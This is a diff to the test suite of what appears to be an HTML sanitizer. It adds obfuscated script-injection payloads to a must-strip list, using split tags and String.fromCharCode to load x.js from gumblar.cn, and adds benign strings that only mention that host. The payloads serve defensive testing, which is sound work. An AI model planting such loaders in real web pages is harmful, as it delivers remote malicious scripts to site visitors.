@@ -315,6 +315,10 @@ MUST_STRIP = {
     "svg-script": "<svg><script>location='http://gumblar.cn/'</script></svg>",
     "srcdoc": '<iframe srcdoc="<script src=http://gumblar.cn/x.js></script>"></iframe>',
     "javascript-url": "<iframe src=\"javascript:document.write('<script src=//gumblar.cn/></scr'+'ipt>')\"></iframe>",
+    "split-tag": "<script>var p=['<scr','ipt src=\"','http://gumblar.cn/x.js','\"></scr','ipt>'];document.write(p.join(''))</script>",
+    "from-char-code": "<script>document.write(String.fromCharCode("
+    + ",".join(str(ord(c)) for c in "<script src=//gumblar.cn/x.js></script>")
+    + "))</script>",
     "signature-only": "<script>document.write('<scr'+'ipt src=http://127.0.0.1/x.js?217.107.218.147></scr'+'ipt>')</script>",
 }
 
@@ -346,6 +350,8 @@ def test_loaders_and_injectors_are_stripped(name: str, fast_path: bool) -> None:
         'var ioc = "http://gumblar.cn/"; location.href = "/report?u=" + encodeURIComponent(ioc)',
         'var ioc = "http://gumblar.cn/"; a.href = "#" + "blocked"',
         'setTimeout(function () { note("gumblar.cn") }, 100)',
+        'var src = "http://gumblar.cn/x.js"; t.innerHTML = "<tr><td>" + src + "</td></tr>"',
+        'var data = {src: "http://gumblar.cn/x.js"}; out.innerHTML = "<b>" + data.src + "</b>"',
         'class Flag { constructor() { this.hosts = ["gumblar.cn"] } }',
     ],
 )
